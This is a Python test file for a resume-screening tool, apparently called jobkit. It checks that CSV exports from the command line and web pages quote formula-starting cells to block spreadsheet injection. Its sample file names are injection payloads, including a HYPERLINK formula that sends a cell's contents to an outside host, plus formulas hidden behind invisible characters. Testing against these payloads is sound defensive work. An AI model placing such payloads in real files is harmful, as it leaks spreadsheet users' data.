"""CSV outputs are safe to open in a spreadsheet (OWASP, "CSV Injection").

A file name such as ``=HYPERLINK(...).txt`` must reach every CSV jobkit writes
as text (``'=HYPERLINK(...)``), never as a formula; and such a file must still
be checked.
"""

import csv
import io
import re
import zipfile

import pytest

from jobkit.cli.commands import cli
from jobkit.model.batches import BatchError, BatchResult
from jobkit.output.batch_rows import BatchCsv
from jobkit.output.csv_format import SafeDictWriter, spreadsheet_safe
from tests.helpers import wait_for_batch
from tests.web.test_report_downloads import fetch, report_form

HOSTILE_NAMES = [
    '=HYPERLINK(CONCATENATE("http:",CHAR(47),CHAR(47),"host?leak=",B2),"Open resume").txt',
    "+SUM(1+1).txt",
    "-2+3.txt",
    "@cmd.txt",
]
FORMULA_CHARS = ("=", "+", "-", "@", "\t", "\r")
RESUME = b"JANE DOE\nMedical Records Technician\nEXPERIENCE\n- Coded charts with ICD-10-CM\n"
ROLE = "medical-records-technician"


def _stem(name: str) -> str:
    return name.rsplit(".", 1)[0]


def _rows(text: str) -> list[dict[str, str]]:
    """Parse a CSV and check every cell (the header too) is spreadsheet-safe."""
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert table, "empty CSV"
    for row in table:
        for cell in row:
            number = re.fullmatch(r"-?\d+(\.\d+)?", cell)  # a negative number is a number, not a formula
            assert number or not cell.lstrip(" ").startswith(FORMULA_CHARS), f"formula cell: {cell!r}"
    rows = [dict(zip(table[0], row)) for row in table[1:]]
    for row in rows:
        if "score" in row and not row.get("error_code"):
            assert re.fullmatch(r"\d+", row["score"]), row
    return rows


def _by_file(text: str) -> dict[str, dict[str, str]]:
    return {row["file"]: row for row in _rows(text)}


# The function and the writer


@pytest.mark.parametrize("value", [0, 87, -2, 3.5, -0.25, None])
def test_numbers_and_none_stay_as_they_are(value):
    assert spreadsheet_safe(value) is value


@pytest.mark.parametrize("value", ["=1+1", "+SUM(1)", "-2+3", "@cmd", "\tx", "\rx", " =x", "   -", "-"])
def test_formula_starts_get_a_quote(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["", "jane.docx", "RHIT; CCA", "a=b", "x-1", "'=already text", "Jane = RHIT"])
def test_plain_text_is_unchanged(value):
    assert spreadsheet_safe(value) == value


def test_writer_quotes_prefixed_cells_and_keeps_numbers():
    buffer = io.StringIO()
    writer = SafeDictWriter(buffer, ["file", "change", "terms", "note"])
    writer.writeheader()
    writer.writerow({"file": "@cmd.txt", "change": -2, "terms": "-HIPAA, +EHR", "extra": "=ignored"})
    writer.writerow({"file": "jane.docx", "change": 87, "terms": "a, b", "note": None})
    lines = buffer.getvalue().split("\r\n")
    assert lines[:3] == ["file,change,terms,note", "\"'@cmd.txt\",-2,\"'-HIPAA, +EHR\",", 'jane.docx,87,"a, b",']
    rows = _rows(buffer.getvalue())
    assert rows[0] == {"file": "'@cmd.txt", "change": "-2", "terms": "'-HIPAA, +EHR", "note": ""}


def test_batch_rows_from_inside_a_resume_are_safe():
    """Error messages, codes and terms go through the same function as the file name."""
    buffer = io.StringIO()
    out = BatchCsv(buffer)
    out.write(BatchResult(index=0, file="=bad.pdf", error=BatchError("-code", "=bad.pdf is not readable")))
    (row,) = _rows(buffer.getvalue())
    assert (row["file"], row["error_code"], row["error"]) == ("'=bad.pdf", "'-code", "'=bad.pdf is not readable")


# jobkit check --format csv


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_check_command_csv(runner, tmp_path, monkeypatch, name):
    monkeypatch.chdir(tmp_path)
    (tmp_path / name).write_bytes(RESUME)
    result = runner.invoke(cli, ["check", "--format", "csv", "--", name])
    assert result.exit_code == 0, result.output
    (row,) = _rows(result.output)
    assert row["file"] == "'" + name


# jobkit batch --csv: single files, a folder, a zip


def _batch(runner, out, *inputs):
    result = runner.invoke(cli, ["batch", "--role", ROLE, "--workers", "1", "--csv", str(out), "--", *inputs])
    assert result.exit_code == 0, result.output
    return _by_file(out.read_text(encoding="utf-8"))


def test_batch_command_single_files(runner, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for name in HOSTILE_NAMES:
        (tmp_path / name).write_bytes(RESUME)
    (tmp_path / "=broken.pdf").write_bytes(b"%PDF-1.4\n1 0 obj <<\ntruncated")
    rows = _batch(runner, tmp_path / "out.csv", *HOSTILE_NAMES, "=broken.pdf")
    for name in HOSTILE_NAMES:
        assert not rows["'" + name]["error_code"]  # checked, not refused
    assert rows["'=broken.pdf"]["error_code"]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_batch_command_folder(runner, tmp_path, monkeypatch, name):
    monkeypatch.chdir(tmp_path)
    folder = tmp_path / _stem(name)  # rows are named folder/file, so the folder carries the formula
    (folder / "nested").mkdir(parents=True)
    (folder / name).write_bytes(RESUME)
    (folder / "nested" / name).write_bytes(RESUME)
    rows = _batch(runner, tmp_path / "out.csv", folder.name)
    assert set(rows) == {f"'{folder.name}/{name}", f"'{folder.name}/nested/{name}"}
    assert not any(row["error_code"] for row in rows.values())


def _zip(names) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in names:
            archive.writestr(name, RESUME)
    return buffer.getvalue()


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_batch_command_zip(runner, tmp_path, monkeypatch, name):
    monkeypatch.chdir(tmp_path)
    archive = tmp_path / (_stem(name) + ".zip")
    archive.write_bytes(_zip(HOSTILE_NAMES))
    rows = _batch(runner, tmp_path / "out.csv", archive.name)
    assert set(rows) == {f"'{archive.name}/{member}" for member in HOSTILE_NAMES}
    assert not any(row["error_code"] for row in rows.values())


# The web pages


def _as_browser_sends(name: str) -> str:
    """A double quote in an upload's file name as a browser sends it: %22 (the server reads it back as a quote).

    Flask's test client would send it bare and the server would cut the name there.
    """
    return name.replace('"', "%22")


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_report_page_csv_download(client, name):
    response = client.post("/check", data={"resume": (io.BytesIO(RESUME), _as_browser_sends(name)), "role": ROLE,
                                           "pages": "1"},
                           content_type="multipart/form-data")
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    report, formats = report_form(response.get_data(as_text=True))  # the page's CSV button posts its report back
    assert formats.count("csv") == 1
    (row,) = _rows(fetch(client, report, "csv").get_data(as_text=True))
    assert row["file"] == "'" + name




@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_batch_page_csv(client, name):
    archive = _stem(name)[:30] + ".zip"  # the page keeps 80 characters of the archive's name
    upload = (io.BytesIO(_zip(HOSTILE_NAMES)), _as_browser_sends(archive))
    client.get("/batch/")
    started = client.post("/batch/", data={"archive": upload, "role": ROLE,
                                           "pages": "1", "consent": "on"}, content_type="multipart/form-data")
    assert started.status_code == 302, started.get_data(as_text=True)[:500]
    url = started.headers["Location"]
    assert wait_for_batch(client, url)["state"] == "done"
    response = client.get(url + "/results.csv")
    assert response.status_code == 200
    rows = _by_file(response.get_data(as_text=True))
    assert set(rows) == {f"'{archive}/{member}" for member in HOSTILE_NAMES}
    assert not any(row["error_code"] for row in rows.values())


@pytest.mark.parametrize("cell", ["\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", "\n=1+1", "\uff1d1+1"])
def test_formulas_behind_invisible_or_full_width_characters_are_prefixed(cell):
    assert spreadsheet_safe(cell) == "'" + cell
